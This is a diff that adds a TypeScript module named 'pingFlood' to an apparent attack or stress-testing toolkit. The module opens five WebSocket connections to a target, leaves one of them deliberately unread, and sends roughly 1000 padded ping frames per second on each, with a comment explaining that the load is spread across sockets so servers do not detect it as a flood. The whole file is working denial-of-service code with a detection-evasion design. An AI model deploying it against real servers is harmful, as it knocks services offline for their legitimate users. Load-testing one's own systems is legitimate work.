@@ -1,0 +1,32 @@
+import type { Socket } from 'node:net'
+import type { Attack } from '../attack.ts'
+import { frame } from '../frames.ts'
+import { hold } from '../hold.ts'
+import { paceBatches } from '../pace.ts'
+import { openWebSocket } from '../web-socket.ts'
+
+const PING = frame('ping', 'p'.repeat(125))
+/** More at once on one socket are taken for a flood by every server: so fewer, on several. */
+const SOCKETS = 5
+const MOST_UNSENT = 1024 * 1024
+
+export const pingFlood: Attack = {
+  title: '5 WebSockets with 1000 pings a second each; one never reads what comes back',
+  begin(aim, tally) {
+    const open: Array<Socket | undefined> = []
+    hold(SOCKETS, (number) => {
+      const keep = () => {
+        open[number] = opened
+      }
+      const opened = openWebSocket(aim, tally, keep, { number, unread: number === 1 })
+      return opened
+    })
+    paceBatches(1_000 * aim.strength, (count) => {
+      for (const socket of open) {
+        if (!socket?.writable || socket.writableLength > MOST_UNSENT) continue
+        tally.did('pings', count)
+        socket.write(Buffer.concat(Array.from({ length: count }, () => PING)))
+      }
+    })
+  },
+}
